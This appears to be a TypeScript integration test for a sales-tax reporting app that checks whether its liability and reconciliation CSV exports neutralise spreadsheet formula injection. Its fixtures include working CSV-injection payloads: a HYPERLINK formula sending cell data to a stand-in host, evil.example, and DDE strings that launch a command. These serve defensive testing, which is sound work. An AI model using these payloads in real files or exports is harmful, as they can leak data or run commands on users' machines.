import { parse } from 'csv-parse/sync';
import { postSale, transition } from './support/period-documents';
import { provisionAccount, startTestApp, type Account, type TestApp } from './support/test-app';

/**
 * Issue 21, item 3: document codes (ours and the client's uploaded ones) reach the liability and
 * reconciliation CSVs. A cell a spreadsheet would run as a formula (starting with = + - @ TAB CR, OWASP
 * "CSV Injection") is written with a leading apostrophe, so it opens as text; amounts stay numbers.
 */
describe('Reports: CSV cells never start a formula', () => {
  let t: TestApp;
  let a: Account;
  const company = () => encodeURIComponent(a.companyCode);
  const period = (op: string) => t.http.post(`/periods/${company()}/2024-03/${op}`).set(a.headers);

  // Codes our ledger accepts (recorded through TNG).
  const VOIDED = '=HYPERLINK("http://evil.example/?x="&A1,"Open")';
  const ADJUSTED = "=cmd|' /C calc'!A0";
  const UNBOOKED = '@SUM(1+1)';
  const PLUS = '+1+cmd|\' /C calc\'!A0';
  const MINUS = '-1+cmd|\' /C calc\'!A0';
  // Codes only the client's books carry (uploaded as JSON, which keeps leading TAB and CR).
  const CLIENT_CODES = ['=1+1', '+2+2', '-3+3', '@SUM(A1:A9)', '\t=4+4', '\r=5+5', '\uFF1D6+6'];

  beforeAll(async () => {
    t = await startTestApp();
    a = await provisionAccount(t);
    await postSale(t, a, { code: VOIDED, date: '2024-03-02', to: 'WA', amounts: [10] });
    await transition(t, a, VOIDED, 'Voided');
    await postSale(t, a, { code: ADJUSTED, date: '2024-03-03', to: 'WA', amounts: [100] });
    for (const code of [UNBOOKED, PLUS, MINUS]) await postSale(t, a, { code, date: '2024-03-04', to: 'WA', amounts: [20] });
    // File March, reopen, revise ADJUSTED downwards: a prior-period adjustment row with negative deltas.
    expect((await period('reconcile')).status).toBe(200);
    expect((await period('file')).status).toBe(200);
    expect((await period('reopen')).status).toBe(200);
    await postSale(t, a, { code: ADJUSTED, date: '2024-03-03', to: 'WA', amounts: [60] });
  });
  afterAll(() => t.close());

  const rowsOf = (csv: string) => parse(csv, { columns: true, relax_quotes: true }) as Record<string, string>[];

  it('liability CSV: voided and adjustment rows carry the codes as text, amounts (also negative) as numbers', async () => {
    const res = await t.http.get(`/reports/${company()}/2024-03/liability?format=csv`).set(a.headers);
    expect(res.status).toBe(200);
    const rows = rowsOf(res.text);
    expect(rows.filter((r) => r.section === 'voided').map((r) => r.documentCode)).toEqual([`'${VOIDED}`]);
    const adjustment = rows.find((r) => r.section === 'adjustment')!;
    expect(adjustment.documentCode).toBe(`'${ADJUSTED}`);
    expect(Number(adjustment.grossSales)).toBe(-40); // a negative amount is a number, not escaped
    expect(adjustment.taxCollected).toMatch(/^-\d/);
    for (const line of res.text.split('\n')) {
      for (const cell of line.split(',')) expect(cell).not.toMatch(/^"?[=+@\t\r]/);
    }
  });

  it('reconciliation CSV: the ledger’s and the client’s codes are text, one apostrophe each', async () => {
    const client = CLIENT_CODES.map((documentCode) => ({ documentCode, transactionType: 'Sale', transactionDate: '2024-03-10', totalAmount: 1, totalTax: 0 }));
    // A client row for PLUS with a bigger total: a negative difference must stay a number.
    client.push({ documentCode: PLUS, transactionType: 'Sale', transactionDate: '2024-03-04', totalAmount: 1, totalTax: 0 });
    const res = await t.http.post(`/reports/${company()}/2024-03/reconciliation?format=csv`).set(a.headers).send(client);
    expect(res.status).toBe(200);
    const rows = rowsOf(res.text);
    const codes = (category: string) => rows.filter((r) => r.category === category).map((r) => r.documentCode).sort();
    expect(codes('missingInLedger')).toEqual(CLIENT_CODES.map((c) => `'${c}`).sort());
    expect(codes('missingInClientBooks')).toEqual([`'${ADJUSTED}`, `'${MINUS}`, `'${UNBOOKED}`].sort());
    const plus = rows.find((r) => r.documentCode === `'${PLUS}`)!;
    expect(plus.category).toBe('amountMismatch');
    expect(Number(plus.differenceTotalAmount)).toBe(-19);
    // The JSON answer keeps the codes exactly as recorded and uploaded.
    const json = await t.http.post(`/reports/${company()}/2024-03/reconciliation`).set(a.headers).send(client);
    expect(json.body.items.missingInLedger.map((i: { documentCode: string }) => i.documentCode).sort()).toEqual([...CLIENT_CODES].sort());
  });
});
